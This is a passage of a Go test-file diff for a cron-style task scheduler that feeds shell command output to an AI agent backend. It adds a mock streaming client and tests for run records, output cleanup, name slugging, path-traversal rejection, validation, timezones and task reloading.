@@ -1,14 +1,79 @@
 package scheduler
 
 import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"reflect"
+	"strings"
+	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
+
+	"gemini-srv/internal/stats"
+
+	"github.com/pelletier/go-toml/v2"
+	"github.com/robfig/cron/v3"
+	"trpc.group/trpc-go/trpc-a2a-go/protocol"
 )
 
 const testDataBaseDir = "test_scheduler_data_"
 
+type mockA2AClient struct {
+	err    error
+	chunks []string
+	// gate, if set, is waited on after the first chunk is sent.
+	gate chan struct{}
+	// model, if set, is reported as the model of each update.
+	model string
+
+	mu       sync.Mutex
+	metadata map[string]interface{} // of the last message sent
+}
+
+func (c *mockA2AClient) StreamMessage(ctx context.Context, params protocol.SendMessageParams) (<-chan protocol.StreamingMessageEvent, error) {
+	c.mu.Lock()
+	c.metadata = params.Message.Metadata
+	c.mu.Unlock()
+	if c.err != nil {
+		return nil, c.err
+	}
+	chunks := c.chunks
+	if chunks == nil {
+		chunks = []string{"mock ", "response"}
+	}
+	events := make(chan protocol.StreamingMessageEvent)
+	go func() {
+		defer close(events)
+		for i, chunk := range chunks {
+			text := protocol.NewTextPart(chunk)
+			msg := protocol.NewMessage(protocol.MessageRoleAgent, []protocol.Part{&text})
+			status := protocol.TaskStatus{State: protocol.TaskStateWorking, Message: &msg}
+			update := protocol.NewTaskStatusUpdateEvent("mock-task-id", "mock-context-id", status, false)
+			if c.model != "" {
+				update.Metadata = map[string]interface{}{"model": c.model}
+			}
+			select {
+			case events <- protocol.StreamingMessageEvent{Result: &update}:
+			case <-ctx.Done():
+				return
+			}
+			if i == 0 && c.gate != nil {
+				<-c.gate
+			}
+		}
+	}()
+	return events, nil
+}
+
 func setupTasks(t *testing.T) string {
 	baseDir := testDataBaseDir + t.Name()
 	tasksDir := filepath.Join(baseDir, "data/tasks")
@@ -40,7 +105,7 @@ prompt = "The data is: {{.Input}}"
 		t.Fatalf("Failed to write test task file: %v", err)
 	}
 
-	manager, err := NewManager(baseDir)
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
 	if err != nil {
 		t.Fatalf("NewManager failed during test: %v", err)
 	}
@@ -72,7 +137,7 @@ prompt = "The data is: {{.Input}}"
 		t.Fatalf("Failed to write test task file: %v", err)
 	}
 
-	manager, err := NewManager(baseDir)
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
 	if err != nil {
 		t.Fatalf("NewManager failed during test: %v", err)
 	}
@@ -83,7 +148,7 @@ prompt = "The data is: {{.Input}}"
 		t.Fatalf("parseTask failed: %v", err)
 	}
 
-	manager.runTask(task)
+	manager.runTask(task, "run-1", nil)
 
 	// Check that the output file was created
 	taskOutputDir := filepath.Join(baseDir, "data/task_outputs", "test_task")
@@ -94,13 +159,37 @@ prompt = "The data is: {{.Input}}"
 	if len(files) != 1 {
 		t.Errorf("Expected 1 output file, got %d", len(files))
 	}
+
+	runs, err := manager.Runs("test_task")
+	if err != nil {
+		t.Fatalf("Runs failed: %v", err)
+	}
+	if len(runs) != 1 {
+		t.Fatalf("Expected 1 run record, got %d", len(runs))
+	}
+	run := runs[0]
+	if run.ID != "run-1" || run.Status != RunStatusSuccess || run.ExitCode != 0 {
+		t.Errorf("Unexpected run record: %+v", run)
+	}
+	if run.Prompt != "The data is: hello" || run.StdoutSize != len("hello\n") {
+		t.Errorf("Unexpected prompt or stdout size in run record: %+v", run)
+	}
+	if run.Response != "mock response" {
+		t.Errorf("Expected the backend response in the run record, got %q", run.Response)
+	}
+	if run.PromptHash != promptHash("The data is: hello") || !strings.HasPrefix(run.PromptHash, "sha256:") {
+		t.Errorf("Unexpected prompt hash in run record: %q", run.PromptHash)
+	}
+	if run.FinishedAt.Before(run.StartedAt) {
+		t.Errorf("Expected finished_at after started_at: %+v", run)
+	}
 }
 
 func TestCleanup(t *testing.T) {
 	baseDir := setupTasks(t)
 	defer teardownTasks(t)
 
-	manager, err := NewManager(baseDir)
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
 	if err != nil {
 		t.Fatalf("NewManager failed during test: %v", err)
 	}
@@ -120,14 +209,118 @@ func TestCleanup(t *testing.T) {
 		t.Fatalf("Failed to change file modification time: %v", err)
 	}
 
+	// The newest output is kept even when it is old.
+	manager.cleanupOldOutputs()
+	if _, err := os.Stat(oldFile); err != nil {
+		t.Errorf("Expected the only output to be kept, got %v", err)
+	}
+
+	if err := os.WriteFile(filepath.Join(taskOutputDir, "new.log"), []byte("new"), 0644); err != nil {
+		t.Fatalf("Failed to write new file: %v", err)
+	}
 	manager.cleanupOldOutputs()
 
 	files, err := os.ReadDir(taskOutputDir)
 	if err != nil {
 		t.Fatalf("Failed to read task output directory: %v", err)
 	}
-	if len(files) != 0 {
-		t.Errorf("Expected 0 output files after cleanup, got %d", len(files))
+	if len(files) != 1 || files[0].Name() != "new.log" {
+		t.Errorf("Expected only the new output file after cleanup, got %v", files)
+	}
+}
+
+func TestCleanupMaxRunsKept(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	os.Setenv("TASK_MAX_RUNS_KEPT", "3")
+	defer os.Unsetenv("TASK_MAX_RUNS_KEPT")
+
+	content := "name = \"frequent\"\nschedule = \"* * * * *\"\ndata_command = \"echo 'hello'\"\nprompt = \"{{.Input}}\"\nmax_runs_kept = 2\n"
+	if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", "frequent.toml"), []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	// Five recent outputs for a task with an override and one without.
+	for _, dir := range []string{"frequent", "other"} {
+		taskOutputDir := filepath.Join(baseDir, "data/task_outputs", dir)
+		if err := os.MkdirAll(taskOutputDir, 0755); err != nil {
+			t.Fatalf("Failed to create test task output directory: %v", err)
+		}
+		for i := 0; i < 5; i++ {
+			file := filepath.Join(taskOutputDir, fmt.Sprintf("run-%d.json", i))
+			if err := os.WriteFile(file, []byte("{}"), 0644); err != nil {
+				t.Fatalf("Failed to write output file: %v", err)
+			}
+			modTime := time.Now().Add(-time.Duration(i) * time.Minute)
+			if err := os.Chtimes(file, modTime, modTime); err != nil {
+				t.Fatalf("Failed to change file modification time: %v", err)
+			}
+		}
+	}
+
+	manager.cleanupOldOutputs()
+
+	for dir, want := range map[string]int{"frequent": 2, "other": 3} {
+		files, err := os.ReadDir(filepath.Join(baseDir, "data/task_outputs", dir))
+		if err != nil {
+			t.Fatalf("Failed to read task output directory: %v", err)
+		}
+		if len(files) != want || files[0].Name() != "run-0.json" {
+			t.Errorf("%s: expected the newest %d outputs to be kept, got %v", dir, want, files)
+		}
+	}
+}
+
+func TestCleanupOutputTTL(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	defer os.Unsetenv("TASK_OUTPUT_TTL")
+
+	taskOutputDir := filepath.Join(baseDir, "data/task_outputs", "test_task")
+	if err := os.MkdirAll(taskOutputDir, 0755); err != nil {
+		t.Fatalf("Failed to create test task output directory: %v", err)
+	}
+	oldFile := filepath.Join(taskOutputDir, "old.log")
+	twoDaysAgo := time.Now().Add(-48 * time.Hour)
+
+	for _, c := range []struct {
+		ttl  string
+		kept bool
+	}{
+		{"72h", true},
+		{"0", true},
+		{"36h", false},
+	} {
+		if err := os.WriteFile(oldFile, []byte("old"), 0644); err != nil {
+			t.Fatalf("Failed to write old file: %v", err)
+		}
+		if err := os.Chtimes(oldFile, twoDaysAgo, twoDaysAgo); err != nil {
+			t.Fatalf("Failed to change file modification time: %v", err)
+		}
+		if err := os.WriteFile(filepath.Join(taskOutputDir, "new.log"), []byte("new"), 0644); err != nil {
+			t.Fatalf("Failed to write new file: %v", err)
+		}
+		os.Setenv("TASK_OUTPUT_TTL", c.ttl)
+		manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+		if err != nil {
+			t.Fatalf("NewManager failed during test: %v", err)
+		}
+		manager.cron.Stop()
+
+		manager.cleanupOldOutputs()
+		if _, err := os.Stat(oldFile); (err == nil) != c.kept {
+			t.Errorf("TASK_OUTPUT_TTL=%s: expected kept=%v, got stat error %v", c.ttl, c.kept, err)
+		}
+	}
+
+	os.Setenv("TASK_OUTPUT_TTL", "three days")
+	if _, err := NewManager(baseDir, &mockA2AClient{}, stats.New()); err == nil {
+		t.Errorf("Expected an invalid TASK_OUTPUT_TTL to be rejected")
 	}
 }
 
@@ -147,7 +340,7 @@ prompt = "The data is: {{.Input}}"
 		t.Fatalf("Failed to write test task file: %v", err)
 	}
 
-	manager, err := NewManager(baseDir)
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
 	if err != nil {
 		t.Fatalf("NewManager failed during test: %v", err)
 	}
@@ -158,12 +351,2926 @@ prompt = "The data is: {{.Input}}"
 		t.Fatalf("parseTask failed: %v", err)
 	}
 
-	manager.runTask(task)
+	manager.runTask(task, "run-1", nil)
+
+	// Check that the failure was recorded
+	runs, err := manager.Runs("failing_task")
+	if err != nil {
+		t.Fatalf("Runs failed: %v", err)
+	}
+	if len(runs) != 1 {
+		t.Fatalf("Expected 1 run record, got %d", len(runs))
+	}
+	if runs[0].Status != RunStatusFailed || runs[0].ExitCode != 1 || runs[0].Error == "" {
+		t.Errorf("Expected a failed run with exit code 1, got %+v", runs[0])
+	}
+	if runs[0].Prompt != "" {
+		t.Errorf("Expected no prompt for a failed run, got %q", runs[0].Prompt)
+	}
+}
+
+func TestRunTaskStderr(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	for _, proceed := range []bool{false, true} {
+		name := fmt.Sprintf("stderr_%v", proceed)
+		task := &Task{
+			Name:           name,
+			DataCommand:    "echo data; echo warning >&2; exit 2",
+			Prompt:         "{{.Input}}",
+			ProceedOnError: proceed,
+		}
+		manager.runTask(task, "run-1", nil)
+
+		runs, err := manager.Runs(name)
+		if err != nil || len(runs) != 1 {
+			t.Fatalf("Expected 1 run record, got %v, %v", runs, err)
+		}
+		run := runs[0]
+		if run.ExitCode != 2 || run.Stderr != "warning\n" {
+			t.Errorf("proceed=%v: expected exit code and stderr to be recorded, got %+v", proceed, run)
+		}
+		wantStatus, wantPrompt := RunStatusFailed, ""
+		if proceed {
+			wantStatus, wantPrompt = RunStatusSuccess, "data"
+		}
+		if run.Status != wantStatus || run.Prompt != wantPrompt {
+			t.Errorf("proceed=%v: expected status %q and prompt %q, got %+v", proceed, wantStatus, wantPrompt, run)
+		}
+	}
+}
+
+func TestSlug(t *testing.T) {
+	cases := map[string]string{
+		"Test Task":       "test_task",
+		"daily-report_2":  "daily-report_2",
+		"../evil":         "evil",
+		"  Padded Name  ": "padded_name",
+		"Ünïcode & Co.!":  "ncode__co",
+		"Daily REPORT":    "daily_report",
+		"Report: Daily!":  "report_daily",
+		"a/b\\c.toml":     "abctoml",
+	}
+	for name, expected := range cases {
+		if slug := Slug(name); slug != expected {
+			t.Errorf("Slug(%q): expected '%s', got '%s'", name, expected, slug)
+		}
+	}
+}
+
+func TestMigrateFileNames(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	tasksDir := filepath.Join(baseDir, "data/tasks")
+	outputsDir := filepath.Join(baseDir, "data/task_outputs")
+	files := map[string]string{
+		"My Task.toml":  "My Task",
+		"Report!.toml":  "Report: Daily!",
+		"taken.toml":    "Clash",
+		"clash.toml":    "Clash",
+		"in_place.toml": "In Place",
+		"not toml.txt":  "Ignored",
+		"Broken.toml":   "",
+	}
+	for file, name := range files {
+		content := "name = \"" + name + "\"\nschedule = \"0 8 * * *\"\ndata_command = \"echo hi\"\nprompt = \"{{.Input}}\"\n"
+		if name == "" {
+			content = "not toml"
+		}
+		if err := os.WriteFile(filepath.Join(tasksDir, file), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write test task file: %v", err)
+		}
+	}
+	// Outputs written under the old lowercased names, one colliding with a
+	// run already in the migrated directory.
+	for _, path := range []string{"my_task/old.json", "report:_daily!/old.json", "report:_daily!/dup.json", "report_daily/dup.json"} {
+		if err := os.MkdirAll(filepath.Join(outputsDir, filepath.Dir(path)), 0755); err != nil {
+			t.Fatalf("Failed to create output directory: %v", err)
+		}
+		if err := os.WriteFile(filepath.Join(outputsDir, path), []byte(path), 0644); err != nil {
+			t.Fatalf("Failed to write output file: %v", err)
+		}
+	}
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	for _, file := range []string{"my_task.toml", "report_daily.toml", "taken.toml", "clash.toml", "in_place.toml", "not toml.txt", "Broken.toml"} {
+		if _, err := os.Stat(filepath.Join(tasksDir, file)); err != nil {
+			t.Errorf("Expected %s to exist after migration: %v", file, err)
+		}
+	}
+	for _, file := range []string{"My Task.toml", "Report!.toml"} {
+		if _, err := os.Stat(filepath.Join(tasksDir, file)); !os.IsNotExist(err) {
+			t.Errorf("Expected %s to be renamed", file)
+		}
+	}
+	for _, path := range []string{"my_task/old.json", "report_daily/old.json", "report_daily/dup.json"} {
+		if _, err := os.Stat(filepath.Join(outputsDir, path)); err != nil {
+			t.Errorf("Expected %s to exist after migration: %v", path, err)
+		}
+	}
+	if data, _ := os.ReadFile(filepath.Join(outputsDir, "report_daily/dup.json")); string(data) != "report_daily/dup.json" {
+		t.Errorf("Expected the existing output to be kept, got %q", data)
+	}
+	if _, err := manager.Status("report_daily"); err != nil {
+		t.Errorf("Expected the migrated task to be found by its slug: %v", err)
+	}
+}
+
+func TestRenameTask(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	tasksDir := filepath.Join(baseDir, "data/tasks")
+	def := "name = \"%s\"\nschedule = \"0 8 * * *\"\ndata_command = \"echo hi\"\nprompt = \"{{.Input}}\"\n"
+	if err := os.WriteFile(filepath.Join(tasksDir, "old.toml"), []byte(fmt.Sprintf(def, "old")), 0644); err != nil {
+		t.Fatalf("Failed to write task file: %v", err)
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+	old, _ := manager.loadTask("old")
+	rec := &RunRecord{ID: "r1", Status: RunStatusFailed, StartedAt: time.Now()}
+	if err := manager.saveRun(old, rec); err != nil {
+		t.Fatalf("saveRun failed: %v", err)
+	}
+	manager.recordStats(old, rec)
+
+	if err := os.WriteFile(filepath.Join(tasksDir, "new.toml"), []byte(fmt.Sprintf(def, "new")), 0644); err != nil {
+		t.Fatalf("Failed to write task file: %v", err)
+	}
+	if err := manager.RenameTask("old", "new"); err != nil {
+		t.Fatalf("RenameTask failed: %v", err)
+	}
+	if _, ok := manager.tasks["old"]; ok {
+		t.Error("Expected the old task to be unscheduled")
+	}
+	if runs, err := manager.Runs("new"); err != nil || len(runs) != 1 || runs[0].ID != "r1" {
+		t.Errorf("Expected the runs to move, got %+v, %v", runs, err)
+	}
+	if stats, err := manager.TaskStats("new"); err != nil || stats.Failures != 1 {
+		t.Errorf("Expected the stats to move, got %+v, %v", stats, err)
+	}
+	if err := manager.RenameTask("missing", "new"); !errors.Is(err, ErrTaskNotFound) {
+		t.Errorf("Expected ErrTaskNotFound, got %v", err)
+	}
+}
+
+func TestAddTask(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	task := &Task{Name: "New Task", Schedule: "*/5 * * * *", DataCommand: "echo hi", Prompt: "{{.Input}}"}
+	if err := ValidateTask(task); err != nil {
+		t.Fatalf("ValidateTask failed: %v", err)
+	}
+	before := len(manager.cron.Entries())
+	if err := manager.AddTask(task); err != nil {
+		t.Fatalf("AddTask failed: %v", err)
+	}
+	if len(manager.cron.Entries()) != before+1 {
+		t.Errorf("Expected %d cron entries, got %d", before+1, len(manager.cron.Entries()))
+	}
+	if err := manager.AddTask(task); err == nil {
+		t.Errorf("Expected adding the same task twice to fail")
+	}
+
+	if err := ValidateTask(&Task{Name: "Bad", Schedule: "every tuesday-ish"}); err == nil {
+		t.Errorf("Expected invalid schedule to be rejected")
+	}
+}
+
+func TestValidName(t *testing.T) {
+	for _, name := range []string{"test_task", "daily-report_2"} {
+		if !ValidName(name) {
+			t.Errorf("Expected %q to be valid", name)
+		}
+	}
+	for _, name := range []string{"", "..", "../evil", "a/b", "Test Task", "a\\b", "-"} {
+		if ValidName(name) {
+			t.Errorf("Expected %q to be invalid", name)
+		}
+	}
+}
+
+func TestRunTaskRejectsTraversal(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	manager.runTask(&Task{Name: "../evil", DataCommand: "echo hi", Prompt: "{{.Input}}"}, "run-1", nil)
+	if _, err := os.Stat(filepath.Join(baseDir, "data/evil")); !os.IsNotExist(err) {
+		t.Errorf("Expected no output outside the task output directory")
+	}
+}
+
+func TestValidateTask(t *testing.T) {
+	valid := &Task{Name: "Report", Schedule: "0 8 * * *", DataCommand: "echo hi", Prompt: "Summarize: {{.Input}}"}
+	if err := ValidateTask(valid); err != nil {
+		t.Fatalf("Expected a valid task, got %v", err)
+	}
+
+	err := ValidateTask(&Task{Name: "??", Schedule: "every tuesday-ish", Prompt: "{{.Inptu}}"})
+	var verr *ValidationError
+	if !errors.As(err, &verr) {
+		t.Fatalf("Expected a *ValidationError, got %v", err)
+	}
+	want := []string{"name", "schedule", "data_command", "prompt"}
+	if len(verr.Errors) != len(want) {
+		t.Fatalf("Expected %d field errors, got %+v", len(want), verr.Errors)
+	}
+	for i, field := range want {
+		if verr.Errors[i].Field != field {
+			t.Errorf("Expected error %d to be for %s, got %s", i, field, verr.Errors[i].Field)
+		}
+	}
+
+	// Names that would collide with the API's routes are refused.
+	for _, name := range []string{"Export", "import", "validate-template"} {
+		err := ValidateTask(&Task{Name: name, Schedule: "0 8 * * *", DataCommand: "echo hi"})
+		if !errors.As(err, &verr) || len(verr.Errors) != 1 || verr.Errors[0].Field != "name" {
+			t.Errorf("Expected a name error for %q, got %v", name, err)
+		}
+	}
+}
+
+func TestParseSchedule(t *testing.T) {
+	base := time.Date(2025, 1, 1, 12, 0, 0, 0, time.UTC)
+
+	sched, err := parseSchedule(&Task{Schedule: "*/10 * * * * *"})
+	if err != nil {
+		t.Fatalf("Expected a 6-field schedule to parse: %v", err)
+	}
+	if next := sched.Next(base); next != base.Add(10*time.Second) {
+		t.Errorf("Expected the next run 10 seconds later, got %v", next)
+	}
+
+	sched, err = parseSchedule(&Task{Schedule: "0 9 * * *", Timezone: "America/New_York"})
+	if err != nil {
+		t.Fatalf("Expected a timezone-qualified schedule to parse: %v", err)
+	}
+	// 09:00 in New York is 14:00 UTC in January.
+	if next := sched.Next(base).UTC(); next.Hour() != 14 || next.Day() != 1 {
+		t.Errorf("Expected the next run at 14:00 UTC, got %v", next)
+	}
+	// And 13:00 UTC once daylight saving time started.
+	summer := time.Date(2025, 7, 1, 12, 0, 0, 0, time.UTC)
+	if next := sched.Next(summer).UTC(); next.Hour() != 13 || next.Day() != 1 {
+		t.Errorf("Expected the next summer run at 13:00 UTC, got %v", next)
+	}
+
+	if err := ValidateTask(&Task{Name: "Bad TZ", Schedule: "* * * * *", Timezone: "Mars/Olympus", DataCommand: "echo hi"}); err == nil {
+		t.Errorf("Expected an unknown timezone to be rejected")
+	}
+	if err := ValidateTask(&Task{Name: "Too Many", Schedule: "* * * * * * *", DataCommand: "echo hi"}); err == nil || !strings.Contains(err.Error(), "expected 5 fields") {
+		t.Errorf("Expected a 7-field schedule to be rejected naming the 5-field format, got %v", err)
+	}
+	if err := ValidateTask(&Task{Name: "Bad Seconds", Schedule: "61 * * * * *", DataCommand: "echo hi"}); err == nil || !strings.Contains(err.Error(), "expected 6 fields: second") {
+		t.Errorf("Expected a bad 6-field schedule to be rejected naming the seconds format, got %v", err)
+	}
+}
+
+func TestStatusTimezone(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	content := "name = \"report\"\nschedule = \"0 8 * * *\"\ntimezone = \"America/Mexico_City\"\ndata_command = \"echo hi\"\nprompt = \"{{.Input}}\"\n"
+	if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", "report.toml"), []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New(), WithLocation(time.UTC))
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	var status TaskStatus
+	for i := 0; i < 100 && status.NextRun == nil; i++ {
+		// The cron scheduler computes the next run once it started.
+		time.Sleep(5 * time.Millisecond)
+		if status, err = manager.Status("report"); err != nil {
+			t.Fatalf("Status failed: %v", err)
+		}
+	}
+	if status.NextRunZone == nil || status.NextRunUTC == nil {
+		t.Fatalf("Expected the next run in the task's zone and UTC, got %+v", status)
+	}
+	if status.Zone != "America/Mexico_City" || status.NextRunZone.Hour() != 8 || status.NextRunZone.Location().String() != "America/Mexico_City" {
+		t.Errorf("Expected the next run at 08:00 America/Mexico_City, got %v in %s", status.NextRunZone, status.Zone)
+	}
+	if status.NextRunUTC.Location() != time.UTC || !status.NextRunUTC.Equal(*status.NextRun) {
+		t.Errorf("Expected the next run in UTC to be %v, got %v", status.NextRun, status.NextRunUTC)
+	}
+}
+
+func TestRemoveTask(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	content := `
+name = "Test Task"
+schedule = "* * * * *"
+data_command = "echo 'hello'"
+prompt = "The data is: {{.Input}}"
+`
+	taskFile := filepath.Join(baseDir, "data/tasks", "test_task.toml")
+	if err := os.WriteFile(taskFile, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	before := len(manager.cron.Entries())
+	if err := manager.RemoveTask("test_task"); err != nil {
+		t.Fatalf("RemoveTask failed: %v", err)
+	}
+	if len(manager.cron.Entries()) != before-1 {
+		t.Errorf("Expected %d cron entries, got %d", before-1, len(manager.cron.Entries()))
+	}
+
+	// The task can be scheduled again once removed.
+	task, _ := manager.parseTask(taskFile)
+	if err := manager.AddTask(task); err != nil {
+		t.Errorf("AddTask after RemoveTask failed: %v", err)
+	}
+
+	if err := manager.RemoveTask("missing_task"); !errors.Is(err, ErrTaskNotFound) {
+		t.Errorf("Expected ErrTaskNotFound, got %v", err)
+	}
+}
+
+func TestReloadTask(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	taskFile := filepath.Join(baseDir, "data/tasks", "test_task.toml")
+	write := func(name, schedule, prompt string) {
+		content := fmt.Sprintf("name = %q\nschedule = %q\ndata_command = \"echo 'hello'\"\nprompt = %q\n", name, schedule, prompt)
+		if err := os.WriteFile(taskFile, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write test task file: %v", err)
+		}
+	}
+	write("Test Task", "0 0 1 1 *", "old: {{.Input}}")
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+	entries := len(manager.cron.Entries())
+	entry := func() cron.Entry {
+		manager.mu.Lock()
+		defer manager.mu.Unlock()
+		return manager.cron.Entry(manager.entries["test_task"])
+	}
+
+	// Only the schedule changes.
+	write("Test Task", "0 0 * * *", "old: {{.Input}}")
+	if err := manager.ReloadTask("test_task"); err != nil {
+		t.Fatalf("ReloadTask failed: %v", err)
+	}
+	if len(manager.cron.Entries()) != entries {
+		t.Errorf("Expected %d cron entries, got %d", entries, len(manager.cron.Entries()))
+	}
+	if sched, _ := cron.ParseStandard("0 0 * * *"); entry().Schedule.Next(time.Time{}) != sched.Next(time.Time{}) {
+		t.Errorf("Expected the new schedule to be in effect")
+	}
+
+	// Only the prompt changes.
+	write("Test Task", "0 0 * * *", "new: {{.Input}}")
+	if err := manager.ReloadTask("test_task"); err != nil {
+		t.Fatalf("ReloadTask failed: %v", err)
+	}
+	entry().Job.Run()
+	runs, _ := manager.Runs("test_task")
+	if len(runs) != 1 || runs[0].Prompt != "new: hello" {
+		t.Errorf("Expected the new prompt to be used, got %+v", runs)
+	}
+
+	// The task is renamed.
+	write("Renamed Task", "0 0 * * *", "new: {{.Input}}")
+	if err := manager.ReloadTask("test_task"); err != nil {
+		t.Fatalf("ReloadTask failed: %v", err)
+	}
+	if len(manager.cron.Entries()) != entries {
+		t.Errorf("Expected %d cron entries, got %d", entries, len(manager.cron.Entries()))
+	}
+	entry().Job.Run()
+	if runs, _ := manager.Runs("renamed_task"); len(runs) != 1 || runs[0].Task != "Renamed Task" {
+		t.Errorf("Expected a run of the renamed task, got %+v", runs)
+	}
+}
+
+func TestReplaceTask(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	taskFile := filepath.Join(baseDir, "data/tasks", "test_task.toml")
+	content := "name = \"Test Task\"\nschedule = \"0 0 1 1 *\"\ndata_command = \"echo 'hello'\"\nprompt = \"{{.Input}}\"\n"
+	if err := os.WriteFile(taskFile, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+	schedule := func() string {
+		manager.mu.Lock()
+		defer manager.mu.Unlock()
+		if task, ok := manager.tasks["test_task"]; ok {
+			return task.Schedule
+		}
+		return ""
+	}
+
+	// A task that can't be scheduled is never saved, and the previous entry
+	// stays.
+	saved := false
+	save := func() error {
+		saved = true
+		return nil
+	}
+	past := &Task{Name: "Test Task", RunAt: "2000-01-01T00:00:00Z", Prompt: "{{.Input}}"}
+	if err := manager.ReplaceTask("test_task", past, save); err == nil || saved {
+		t.Errorf("Expected a schedule error before saving, got %v, saved = %v", err, saved)
+	}
+	if schedule() != "0 0 1 1 *" {
+		t.Errorf("Expected the previous entry to be kept, got schedule %q", schedule())
+	}
+
+	// Nor does a failed save replace it.
+	task := &Task{Name: "Test Task", Schedule: "0 0 * * *", DataCommand: "echo 'hello'", Prompt: "{{.Input}}"}
+	if err := manager.ReplaceTask("test_task", task, func() error { return errors.New("disk full") }); err == nil {
+		t.Errorf("Expected the save error")
+	}
+	if schedule() != "0 0 1 1 *" {
+		t.Errorf("Expected the previous entry to be kept, got schedule %q", schedule())
+	}
 
-	// Check that no output file was created
-	taskOutputDir := filepath.Join(baseDir, "data/task_outputs", "failing_task")
-	_, err = os.ReadDir(taskOutputDir)
-	if !os.IsNotExist(err) {
-		t.Errorf("Expected task output directory to not exist, but it does")
+	if err := manager.ReplaceTask("test_task", task, save); err != nil || !saved {
+		t.Fatalf("ReplaceTask failed: %v, saved = %v", err, saved)
+	}
+	if schedule() != "0 0 * * *" {
+		t.Errorf("Expected the new entry, got schedule %q", schedule())
 	}
-}
\ No newline at end of file
+}
+
+func TestScheduleError(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	taskFile := filepath.Join(baseDir, "data/tasks", "nightly.toml")
+	write := func(schedule string) {
+		content := fmt.Sprintf("name = \"Nightly\"\nschedule = %q\ndata_command = \"echo hi\"\nprompt = \"{{.Input}}\"\n", schedule)
+		if err := os.WriteFile(taskFile, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write test task file: %v", err)
+		}
+	}
+	write("0 25 * * *")
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+	status, err := manager.Status("nightly")
+	if err != nil {
+		t.Fatalf("Status failed: %v", err)
+	}
+	if status.NextRun != nil || !strings.Contains(status.ScheduleError, `invalid cron expression "0 25 * * *"`) || !strings.Contains(status.ScheduleError, "25") {
+		t.Errorf("Expected the parser's error for the rejected schedule, got %+v", status)
+	}
+
+	write("0 2 * * *")
+	if err := manager.ReloadTask("nightly"); err != nil {
+		t.Fatalf("ReloadTask failed: %v", err)
+	}
+	if status, _ := manager.Status("nightly"); status.ScheduleError != "" || status.NextRun == nil {
+		t.Errorf("Expected the fixed task scheduled without error, got %+v", status)
+	}
+
+	// A broken edit picked up by Reload is reported too, and, as with the
+	// watcher, the task is unscheduled.
+	write("0 2 * *")
+	summary, err := manager.Reload()
+	if err != nil {
+		t.Fatalf("Reload failed: %v", err)
+	}
+	if fmt.Sprint(summary.Removed) != "[nightly]" || summary.Errors["nightly"] == "" {
+		t.Errorf("Expected the broken task reported and removed, got %+v", summary)
+	}
+	if status, _ := manager.Status("nightly"); status.ScheduleError == "" || status.NextRun != nil {
+		t.Errorf("Expected a schedule error and no next run, got %+v", status)
+	}
+
+	// So is a file that can't be parsed at all.
